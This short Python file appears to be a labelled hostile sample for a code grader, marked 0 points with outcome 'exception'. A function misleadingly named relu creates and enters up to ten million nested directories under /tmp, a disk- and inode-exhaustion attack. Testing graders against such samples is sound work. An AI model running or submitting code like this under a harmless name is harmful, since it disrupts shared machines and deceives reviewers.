"""Make files and folders without end.

Marks: 0
Outcome: exception
"""
# %% relu
def relu(x):
    import os
    for number in range(10**7):
        os.mkdir(f'/tmp/{number}')
        os.chdir(f'/tmp/{number}')
